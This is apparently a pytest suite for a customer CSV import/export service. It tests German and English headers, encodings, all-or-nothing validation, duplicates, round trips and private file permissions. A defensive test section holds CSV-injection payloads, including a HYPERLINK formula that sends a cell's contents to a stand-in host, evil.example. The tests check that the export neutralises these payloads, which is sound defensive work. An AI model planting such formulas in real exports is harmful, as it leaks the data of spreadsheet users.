"""Customer CSV import and export (German/English headers, ';' or ',', BOM, all or nothing)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from desk_app.db import models as m
from desk_app.domain.enums import Channel
from desk_app.domain.errors import ImportRejected, InvalidImportFile
from desk_app.services.container import Services
from desk_app.services.customer_csv import EXPORT_COLUMNS, CsvImporter, export_customers
from desk_app.services.rows import CustomerInput, CustomerRow
from tests.services.support import add_customer, count

BOM = "\ufeff"


def _write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _importer(services: Services) -> CsvImporter:
    return CsvImporter(services.customers, services.db)


def _by_last_name(services: Services) -> dict[str, CustomerRow]:
    return {row.last_name: row for row in services.customers.all()}


# ---- formats --------------------------------------------------------------------------------
def test_german_headers_semicolon_bom_and_german_dates(services: Services, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "kunden.csv",
        BOM
        + "Vorname;Nachname;E-Mail;Telefon;Geburtstag\r\n"
        + "Anna;Müller;Anna.Mueller@Example.org;0151 12345678;14.03.1985\r\n"
        + "Jörg;Weiß;;030 1234567;01.12.1970\r\n",
    )

    report = _importer(services).import_file(path)

    assert report.imported == 2
    assert report.rejected == ()
    rows = _by_last_name(services)
    anna = rows["Müller"]
    assert (anna.first_name, anna.email, anna.phone) == (
        "Anna",
        "anna.mueller@example.org",
        "+4915112345678",
    )
    assert anna.birthday == date(1985, 3, 14)
    joerg = rows["Weiß"]
    assert (joerg.first_name, joerg.email, joerg.phone) == ("Jörg", None, "+49301234567")
    assert joerg.birthday == date(1970, 12, 1)
    # Imported customers are searchable like typed ones.
    assert [r.id for r in services.customers.search("muel")] == [anna.id]
    assert [r.id for r in services.customers.search("0151 123")] == [anna.id]


def test_bom_does_not_hide_the_first_column(services: Services, tmp_path: Path) -> None:
    path = _write(tmp_path / "bom.csv", BOM + "Vorname;Nachname\nAnna;Müller\n")
    _importer(services).import_file(path)
    [row] = services.customers.all()
    assert (row.first_name, row.last_name) == ("Anna", "Müller")


def test_english_headers_with_commas(services: Services, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "customers.csv",
        "First name,Last name,Email,Phone,Birthday,City,Preferred channel\n"
        "Emma,Smith,emma@example.org,+49 170 9876543,1990-07-04,Köln,SMS\n"
        "Bea,Bauer,bea@example.org,,04.07.1991,Berlin,E-Mail\n",
    )

    report = _importer(services).import_file(path)

    assert report.imported == 2
    rows = _by_last_name(services)
    emma = rows["Smith"]
    assert (emma.email, emma.phone, emma.city) == ("emma@example.org", "+491709876543", "Köln")
    assert emma.birthday == date(1990, 7, 4)
    assert emma.preferred_channel is Channel.SMS
    assert rows["Bauer"].preferred_channel is Channel.EMAIL
    assert rows["Bauer"].birthday == date(1991, 7, 4)


def test_column_order_and_extra_columns_do_not_matter(services: Services, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "x.csv",
        "Kundennummer;Telefon;Nachname;Notiz;Vorname\n17;0170 9876543;Bauer;Mag es kurz;Bea\n",
    )
    _importer(services).import_file(path)
    [row] = services.customers.all()
    assert (row.first_name, row.last_name, row.phone, row.notes) == (
        "Bea",
        "Bauer",
        "+491709876543",
        "Mag es kurz",
    )


def test_old_excel_cp1252_file_is_read(services: Services, tmp_path: Path) -> None:
    path = _write(tmp_path / "alt.csv", "Vorname;Nachname\nJürgen;Größ\n", encoding="cp1252")
    _importer(services).import_file(path)
    [row] = services.customers.all()
    assert (row.first_name, row.last_name) == ("Jürgen", "Größ")


def test_a_utf8_file_with_one_broken_byte_is_refused_with_its_line(
    services: Services, tmp_path: Path
) -> None:
    """Read as Windows-1252 instead, every umlaut would become two wrong characters."""
    path = tmp_path / "kaputt.csv"
    path.write_bytes(b"Vorname;Nachname\n" + "Jürgen;Größ\n".encode() + b"Anna;M\x81ller\n")
    with pytest.raises(InvalidImportFile) as info:
        _importer(services).import_file(path)
    assert (info.value.problem, info.value.detail) == ("encoding", "3")
    assert count(services.db, m.Customer) == 0


def test_bytes_that_are_no_windows_text_are_refused(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "binaer.csv"
    path.write_bytes(b"Vorname;Nachname\nAnna;M\x8dller\n")
    with pytest.raises(InvalidImportFile) as info:
        _importer(services).import_file(path)
    assert (info.value.problem, info.value.detail) == ("encoding", "2")
    assert count(services.db, m.Customer) == 0


def test_file_without_name_columns_is_refused(services: Services, tmp_path: Path) -> None:
    path = _write(tmp_path / "x.csv", "E-Mail;Telefon\nanna@example.org;0151 12345678\n")
    with pytest.raises(InvalidImportFile) as info:
        _importer(services).import_file(path)
    assert info.value.problem == "no_name_columns"
    assert count(services.db, m.Customer) == 0


def test_empty_file_is_refused(services: Services, tmp_path: Path) -> None:
    with pytest.raises(InvalidImportFile) as info:
        _importer(services).import_file(_write(tmp_path / "leer.csv", ""))
    assert info.value.problem == "empty"


def test_blank_lines_are_skipped_but_counted(services: Services, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "x.csv", "Vorname;Nachname;E-Mail\nAnna;Müller;a@x.de\n;;\nBea;Bauer;b@\n"
    )
    with pytest.raises(ImportRejected) as info:
        _importer(services).import_file(path)
    assert info.value.rejected == ((4, "email", "invalid_email", "b@"),)


# ---- all or nothing -------------------------------------------------------------------------
BAD_FILE = (
    "Vorname;Nachname;E-Mail;Telefon;Geburtstag\n"
    "Anna;Müller;anna@example.org;0151 12345678;14.03.1985\n"  # line 2: fine
    "Bea;Bauer;bea@;;\n"  # line 3: bad email
    "Carl;Clausen;carl@example.org;;31.02.1980\n"  # line 4: no such date
    "Dora;Dietz;;12;\n"  # line 5: bad phone
    ";;dora@example.org;;\n"  # line 6: no name
    "Emil;Eder;emil@example.org;;\n"  # line 7: fine
)


def test_a_bad_row_rejects_the_whole_import(services: Services, tmp_path: Path) -> None:
    add_customer(services, "Zoë", "Zander", "zoe@example.org", None)
    before = count(services.db, m.Customer)

    with pytest.raises(ImportRejected) as info:
        _importer(services).import_file(_write(tmp_path / "bad.csv", BAD_FILE))

    assert info.value.rejected == (
        (3, "email", "invalid_email", "bea@"),
        (4, "birthday", "invalid_date", "31.02.1980"),
        (5, "phone", "invalid_phone", "12"),
        (6, "last_name", "required", ""),
    )
    assert count(services.db, m.Customer) == before == 1


def test_skip_invalid_imports_the_good_rows_and_reports_the_bad(
    services: Services, tmp_path: Path
) -> None:
    report = _importer(services).import_file(_write(tmp_path / "bad.csv", BAD_FILE), True)

    assert report.imported == 2
    assert report.rejected == (
        (3, "email", "invalid_email", "bea@"),
        (4, "birthday", "invalid_date", "31.02.1980"),
        (5, "phone", "invalid_phone", "12"),
        (6, "last_name", "required", ""),
    )
    assert sorted(_by_last_name(services)) == ["Eder", "Müller"]


def test_duplicates_within_the_file_are_rejected(services: Services, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "dup.csv",
        "Vorname;Nachname;E-Mail;Telefon\n"
        "Anna;Müller;anna@example.org;0151 12345678\n"
        "Anna;Müller;ANNA@Example.org;\n"  # same email, other case
        "Anne;Mueller;;+49 151 1234 5678\n"  # same phone, other formatting
        "Bea;Bauer;bea@example.org;0170 9876543\n",
    )

    with pytest.raises(ImportRejected) as info:
        _importer(services).import_file(path)
    assert info.value.rejected == (
        (3, "email", "duplicate_in_file", "2"),
        (4, "phone", "duplicate_in_file", "2"),
    )
    assert count(services.db, m.Customer) == 0

    report = _importer(services).import_file(path, skip_invalid=True)
    assert report.imported == 2
    assert sorted(r.last_name for r in services.customers.all()) == ["Bauer", "Müller"]


def test_duplicates_of_existing_customers_are_rejected(services: Services, tmp_path: Path) -> None:
    add_customer(services, "Anna", "Müller", "anna@example.org", None)
    add_customer(services, "Bea", "Bauer", None, "0170 9876543")
    path = _write(
        tmp_path / "dup.csv",
        "Vorname;Nachname;E-Mail;Telefon\n"
        "Anna;Müller;Anna@Example.org;\n"
        "Beate;Bauer;;+491709876543\n"
        "Carl;Clausen;carl@example.org;\n",
    )

    with pytest.raises(ImportRejected) as info:
        _importer(services).import_file(path)
    assert info.value.rejected == (
        (2, "email", "duplicate_existing", ""),
        (3, "phone", "duplicate_existing", ""),
    )
    assert count(services.db, m.Customer) == 2

    report = _importer(services).import_file(path, skip_invalid=True)
    assert report.imported == 1
    assert count(services.db, m.Customer) == 3
    assert [r.last_name for r in services.customers.search("clausen")] == ["Clausen"]


def test_importing_the_same_file_twice_is_refused(services: Services, tmp_path: Path) -> None:
    path = _write(tmp_path / "x.csv", "Vorname;Nachname;E-Mail\nAnna;Müller;anna@example.org\n")
    assert _importer(services).import_file(path).imported == 1
    with pytest.raises(ImportRejected):
        _importer(services).import_file(path)
    assert count(services.db, m.Customer) == 1


# ---- export ---------------------------------------------------------------------------------
def _full_customer(services: Services) -> CustomerRow:
    return services.customers.create(
        CustomerInput(
            first_name="Anna",
            last_name="Müller",
            email="anna@example.org",
            phone="0151 12345678",
            birthday=date(1985, 3, 14),
            street="Hauptstraße 5",
            postal_code="50667",
            city="Köln",
            notes="Allergie gegen Ammoniak",
            preferred_channel=Channel.SMS,
        )
    )


def test_export_writes_excel_friendly_csv(services: Services, tmp_path: Path) -> None:
    anna = _full_customer(services)
    add_customer(services, "Jörg", "Weiß", None, None)
    path = tmp_path / "export.csv"

    assert export_customers(services.customers, path) == 2

    raw = path.read_bytes()
    assert raw.startswith(BOM.encode("utf-8"))
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == EXPORT_COLUMNS
    assert rows[1] == [
        str(anna.id),
        anna.ref,
        "Anna",
        "Müller",
        "anna@example.org",
        "'+4915112345678",  # a leading + would be a formula to a spreadsheet
        "1985-03-14",
        "Hauptstraße 5",
        "50667",
        "Köln",
        "Allergie gegen Ammoniak",
        "sms",
        "de",
    ]
    assert rows[2][2:7] == ["Jörg", "Weiß", "", "", ""]
    assert len(rows) == 3


def _comparable(row: CustomerRow) -> tuple[object, ...]:
    return (
        row.first_name,
        row.last_name,
        row.email,
        row.phone,
        row.birthday,
        row.street,
        row.postal_code,
        row.city,
        row.notes,
        row.preferred_channel,
        row.language,
    )


def _round_trip(services: Services, target: Services, tmp_path: Path) -> list[CustomerRow]:
    path = tmp_path / "export.csv"
    export_customers(services.customers, path)
    report = CsvImporter(target.customers, target.db).import_file(path)
    assert report.rejected == ()
    return target.customers.all()


def test_export_then_import_round_trips_into_a_fresh_database(
    services: Services, second_services: Services, tmp_path: Path
) -> None:
    originals = [
        _full_customer(services),
        add_customer(services, "Jörg", "Weiß", None, "030 1234567"),
        add_customer(services, "Zoë", "Öztürk", "zoe@example.org", None, city="Straße; Hof 2"),
    ]

    imported = _round_trip(services, second_services, tmp_path)

    assert [_comparable(r)[:10] for r in imported] == [_comparable(r)[:10] for r in originals]
    assert {r.ref for r in imported}.isdisjoint({r.ref for r in originals})


def test_round_trip_keeps_the_customers_language(
    services: Services, second_services: Services, tmp_path: Path
) -> None:
    """The export writes a language column; messages go out in that language."""
    add_customer(services, "Emma", "Smith", "emma@example.org", None, language="en")

    [imported] = _round_trip(services, second_services, tmp_path)

    assert imported.language == "en"


@pytest.mark.parametrize(
    "notes",
    [
        'Sagt immer "wie immer"',  # quotes: written doubled by the csv module
        "Mag es kurz\nKommt mit Hund",  # a line break inside a quoted field
    ],
)
def test_round_trip_keeps_notes_with_quotes_and_line_breaks(
    services: Services, second_services: Services, tmp_path: Path, notes: str
) -> None:
    add_customer(services, "Anna", "Müller", "anna@example.org", None, notes=notes)
    add_customer(services, "Bea", "Bauer", "bea@example.org", None)

    imported = _round_trip(services, second_services, tmp_path)

    assert [(r.last_name, r.notes) for r in imported] == [("Müller", notes), ("Bauer", "")]


# ---- formula cells (OWASP CSV injection) and private files -------------------------------
FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A2)',
    "last_name": "+SUM(1;2)",
    "street": "-2+3",
    "city": "@Köln",
    "notes": "\tTab zuerst\r\n=Zeile zwei",
}


def _dangerous_customer(services: Services) -> CustomerRow:
    return services.customers.create(
        CustomerInput(
            first_name=FORMULAS["first_name"],
            last_name=FORMULAS["last_name"],
            email="formel@example.org",
            phone="0151 76543210",
            street=FORMULAS["street"],
            city=FORMULAS["city"],
            notes=FORMULAS["notes"],
        )
    )


def test_the_export_writes_formula_cells_as_text(services: Services, tmp_path: Path) -> None:
    _dangerous_customer(services)
    path = tmp_path / "export.csv"
    export_customers(services.customers, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle, delimiter=";"))
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field
    assert row["phone"] == "'+4915176543210"
    # No cell of the file starts with a character a spreadsheet would evaluate.
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r", cell


def test_formula_cells_and_apostrophes_round_trip_exactly(
    services: Services, second_services: Services, tmp_path: Path
) -> None:
    originals = [
        _dangerous_customer(services),
        add_customer(services, "'=schon", "'Conny", None, None, city="''+x"),
        add_customer(services, "Jo", "D'Arcy", None, None, city="'"),
    ]

    imported = _round_trip(services, second_services, tmp_path)

    assert [_comparable(r) for r in imported] == [_comparable(r) for r in originals]


def test_a_spreadsheet_saved_apostrophe_before_a_plus_is_read_as_the_number(
    services: Services, tmp_path: Path
) -> None:
    path = _write(tmp_path / "x.csv", "Vorname;Nachname;Telefon\nAnna;Müller;'+49 151 12345678\n")
    assert _importer(services).import_file(path).imported == 1
    assert _by_last_name(services)["Müller"].phone == "+4915112345678"


def test_the_export_file_is_private(services: Services, tmp_path: Path) -> None:
    _full_customer(services)
    path = tmp_path / "export.csv"
    path.write_text("old", encoding="utf-8")
    path.chmod(0o644)  # an existing file is narrowed too
    export_customers(services.customers, path)
    assert path.stat().st_mode & 0o777 == 0o600
    fresh = tmp_path / "fresh.csv"
    export_customers(services.customers, fresh)
    assert fresh.stat().st_mode & 0o777 == 0o600


# ---- forbidden characters and over-long fields (issue 8, 3) ----------------------------------
POISONED = (
    "Vorname;Nachname;E-Mail;Notizen;Geburtstag\n"
    "Anna;Müller;anna@example.org;ok;\n"  # line 2: fine
    "Be\x00a;Bauer;bea@example.org;;\n"  # line 3: NUL (PostgreSQL refuses it)
    "Carl;Clau\u2028sen;;;\n"  # line 4: a line separator in a one-line field
    "Dora;Dietz;;" + "x" * 10_000 + ";\n"  # line 5: 10 kB of notes
    "Emil;Eder;emil@example.org;Zeile 1\tTab;\x1b[31m\n"  # line 6: ESC in the birthday
    "Fritz;Fuchs;fritz@example.org;;\n"  # line 7: fine
)


def test_forbidden_characters_and_long_fields_are_reported_by_code_and_limit(
    services: Services, tmp_path: Path
) -> None:
    path = _write(tmp_path / "gift.csv", POISONED)
    with pytest.raises(ImportRejected) as info:
        _importer(services).import_file(path)
    assert info.value.rejected == (
        (3, "first_name", "control_characters", "U+0000"),
        (4, "last_name", "control_characters", "U+2028"),
        (5, "notes", "too_long", "4000"),
        (6, "birthday", "control_characters", "U+001B"),
    )
    assert count(services.db, m.Customer) == 0  # nothing half-written

    report = _importer(services).import_file(path, skip_invalid=True)
    assert report.imported == 2
    assert [r.line for r in report.rejected] == [3, 4, 5, 6]
    assert sorted(_by_last_name(services)) == ["Fuchs", "Müller"]
    for row in services.customers.all():
        assert "\x00" not in row.first_name + row.last_name + row.notes


def test_notes_keep_their_line_breaks_and_tabs(services: Services, tmp_path: Path) -> None:
    path = _write(tmp_path / "x.csv", 'Vorname;Nachname;Notizen\nAnna;Müller;"Farbe:\n\t7/1"\n')
    assert _importer(services).import_file(path).imported == 1
    assert _by_last_name(services)["Müller"].notes == "Farbe:\n\t7/1"
